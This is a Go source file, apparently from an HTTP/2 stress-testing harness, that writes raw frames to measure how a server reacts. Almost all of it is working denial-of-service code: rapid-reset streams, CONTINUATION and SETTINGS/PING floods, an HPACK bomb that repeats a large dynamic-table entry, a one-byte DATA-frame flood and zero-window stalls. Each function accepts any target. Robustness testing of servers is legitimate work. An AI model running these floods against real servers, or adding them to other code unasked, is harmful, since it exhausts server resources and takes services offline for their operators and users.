package main

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An h2Storm is a connection of HTTP/2 whose frames are written by hand, and whose answers are read and thrown away.
type h2Storm struct {
	conn   net.Conn
	met    *stormOutcome
	framer *http2.Framer
	fields bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32
	closed chan struct{}
}

// onH2 runs something on each of some fresh HTTP/2 connections, and counts the heads of answers that come.
func (o *stormOutcome) onH2(connections int, target string, settings []http2.Setting, send func(storm *h2Storm) error) error {
	return o.on(connections, target, func(conn net.Conn) error {
		s := &h2Storm{conn: conn, met: o, stream: 1, closed: make(chan struct{})}
		s.framer = http2.NewFramer(s, conn)
		s.hpack = hpack.NewEncoder(&s.fields)
		if err := o.write(conn, []byte(http2.ClientPreface), 0); err != nil {
			return err
		}
		if err := s.framer.WriteSettings(settings...); err != nil {
			return err
		}
		go s.drain()
		err := send(s)
		s.settle()
		return err
	})
}

// Write counts what the framer sends.
func (s *h2Storm) Write(data []byte) (int, error) {
	n, err := writeAll(s.conn, data)
	s.met.add(0, n, 0)
	return int(n), err
}

// drain reads until the server ends the connection.
func (s *h2Storm) drain() {
	defer close(s.closed)
	reader := http2.NewFramer(io.Discard, s.conn)
	reader.SetMaxReadFrameSize(1 << 20)
	for {
		frame, err := reader.ReadFrame()
		var stream http2.StreamError
		if err != nil && !errors.As(err, &stream) {
			return
		}
		if _, isHeaders := frame.(*http2.HeadersFrame); isHeaders {
			s.met.add(0, 0, 1)
		}
	}
}

// settle gives the server a moment to answer or to hang up.
func (s *h2Storm) settle() {
	select {
	case <-s.closed:
	case <-time.After(500 * time.Millisecond):
	}
}

// head encodes a request's fields.
func (s *h2Storm) head(path string, more ...hpack.HeaderField) []byte {
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "storm"}, {Name: ":path", Value: path},
	}
	return s.block(append(fields, more...))
}

func (s *h2Storm) block(fields []hpack.HeaderField) []byte {
	s.fields.Reset()
	for _, field := range fields {
		_ = s.hpack.WriteField(field) // into memory
	}
	return s.fields.Bytes()
}

// headers begins the next stream, with a request that has no body.
func (s *h2Storm) headers(block []byte, end bool) (uint32, error) {
	stream, err := s.begin(block, true, end)
	if err == nil && end {
		s.met.add(1, 0, 0)
	}
	return stream, err
}

func (s *h2Storm) begin(block []byte, endStream, endHeaders bool) (uint32, error) {
	stream := s.stream
	s.stream += 2
	err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: endStream, EndHeaders: endHeaders})
	return stream, err
}

// floodFrames sends a request whose body comes in DATA frames of one byte, each frame in ten segments.
func floodFrames(target string, met *stormOutcome, segments, rate int) error {
	var frames bytes.Buffer
	framer := http2.NewFramer(&frames, nil)
	for frames.Len() < segments {
		_ = framer.WriteData(1, false, []byte("x")) // into memory
	}
	_ = framer.WriteData(1, true, nil)
	return met.onH2(2, target, nil, func(s *h2Storm) error {
		post := []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"},
			{Name: ":authority", Value: "flood"}, {Name: ":path", Value: "/discard"},
		}
		if _, err := s.begin(s.block(post), false, true); err != nil {
			return err
		}
		if err := met.trickle(s.conn, frames.Bytes(), newPace(rate)); err != nil {
			return err
		}
		met.add(1, 0, 0)
		return nil
	})
}

func hpackBomb(target string, met *stormOutcome) error {
	return met.onH2(1, target, nil, func(s *h2Storm) error {
		bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)}
		if _, err := s.headers(s.head("/stock/hpack-bomb", bomb), true); err != nil {
			return err
		}
		for range 20 {
			// 0xbe: the newest entry of the dynamic table, in one byte.
			block := append(bytes.Clone(s.head("/stock/hpack-bomb")), bytes.Repeat([]byte{0xbe}, 16_000)...)
			if _, err := s.headers(block, true); err != nil {
				return err
			}
		}
		return nil
	})
}

func settingsFlood(target string, met *stormOutcome) error {
	return met.onH2(1, target, nil, func(s *h2Storm) error {
		for i := range uint32(20_000) {
			err := s.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: i % 8192})
			if err = errors.Join(err, s.framer.WritePing(false, [8]byte{1})); err != nil {
				return err
			}
		}
		return nil
	})
}

func rapidReset(target string, met *stormOutcome) error {
	return met.onH2(1, target, nil, func(s *h2Storm) error {
		for range 5000 {
			stream, err := s.headers(s.head("/stock/rapid-reset"), true)
			if err = errors.Join(err, s.framer.WriteRSTStream(stream, http2.ErrCodeCancel)); err != nil {
				return err
			}
		}
		return nil
	})
}

func continuationFlood(target string, met *stormOutcome) error {
	return met.onH2(1, target, nil, func(s *h2Storm) error {
		stream, err := s.headers(s.head("/stock/continuation-flood"), false)
		if err != nil {
			return err
		}
		for range 10_000 {
			s.fields.Reset()
			_ = s.hpack.WriteField(hpack.HeaderField{Name: "x-more", Value: strings.Repeat("m", 60), Sensitive: true})
			if err := s.framer.WriteContinuation(stream, false, s.fields.Bytes()); err != nil {
				return err
			}
		}
		return nil
	})
}

func windowZero(target string, met *stormOutcome) error {
	none := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	return met.onH2(1, target, none, func(s *h2Storm) error {
		for range 50 {
			if _, err := s.headers(s.head("/bytes/100000"), true); err != nil {
				return err
			}
		}
		return nil
	})
}
